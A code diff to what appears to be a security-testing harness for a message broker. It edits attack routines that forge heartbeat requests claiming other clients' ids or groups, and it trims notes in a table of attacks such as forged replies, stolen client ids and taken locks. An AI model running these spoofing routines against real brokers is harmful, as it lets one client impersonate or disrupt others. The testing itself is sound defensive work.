@@ -182,11 +182,10 @@ class Attack:
     # --- transactions ------------------------------------------------------------------------------------------------
 
     async def joins_producers(self) -> None:
-        """Says that the own client is a producer of somebody else's group, or somebody else's client (34)."""
+        """Says that the own client is a producer of somebody else's group (34)."""
         found = self._leaks.client(self._rng, is_producer=True)
         if found is not None:
-            client_id = self._rng.choice((CLIENT, found.client_id))
-            body = {"clientID": client_id, "producerDataSet": [{"groupName": found.group}, {"groupName": GROUP}]}
+            body = {"clientID": CLIENT, "producerDataSet": [{"groupName": found.group}, {"groupName": GROUP}]}
             await self.ask(RequestCode.HEART_BEAT, {}, json.dumps(body).encode())
 
     def answers_check(self, ext: dict[str, str]) -> None:
@@ -293,11 +292,12 @@ class Attack:
             self._connection.write(self._frame(RequestCode.SEND_REPLY_MESSAGE_V2, fields, b"forged"))
 
     async def takes_client_ids(self) -> None:
-        """Says that somebody else's client id is a consumer of the own group and a producer of the own (34)."""
+        """Says that somebody else's client id is a consumer of the own group, and a producer of the own group and of
+        the client's (34)."""
         found = self._leaks.client(self._rng)
         if found is not None:
             body = json.loads(beat_body(found.client_id, [GROUP], [TOPIC]))
-            body["producerDataSet"] = [{"groupName": GROUP}]
+            body["producerDataSet"] = [{"groupName": GROUP}, {"groupName": found.group}]
             await self.ask(RequestCode.HEART_BEAT, {}, json.dumps(body).encode())
 
     async def takes_locks(self) -> None:
@@ -323,17 +323,17 @@ class Kind(NamedTuple):
 
 
 ATTACKS: Final = (
-    Kind("send-back", Attack.sends_back, "36 is not judged by the row"),
-    Kind("consume-directly", Attack.consumes_directly, "309 is not judged by the row"),
-    Kind("look-up", Attack.looks_up, "33 and 12 are not judged by the row"),
+    Kind("send-back", Attack.sends_back),
+    Kind("consume-directly", Attack.consumes_directly),
+    Kind("look-up", Attack.looks_up),
     Kind("recall", Attack.recalls),
-    Kind("join-producers", Attack.joins_producers, "39 and 326 go to any member"),
-    Kind("end-transactions", Attack.ends_transactions, "37 is judged by the topic that the client names"),
+    Kind("join-producers", Attack.joins_producers),
+    Kind("end-transactions", Attack.ends_transactions),
     Kind("stage", Attack.stages, "slices need no right to the write"),
     Kind("end-writes", Attack.ends_writes),
     Kind("take-sessions", Attack.takes_sessions, "sessions belong to nobody"),
     Kind("forget-sessions", Attack.forgets_sessions, "sessions of commits and sends are the same"),
-    Kind("unregister", Attack.unregisters, "35 takes any client id"),
+    Kind("unregister", Attack.unregisters),
     Kind("forge-replies", Attack.forges_replies, "a reply needs no request"),
     Kind("take-client-ids", Attack.takes_client_ids, "replies go to the newest connection"),
     Kind("take-locks", Attack.takes_locks, "locks belong to a client id alone"),
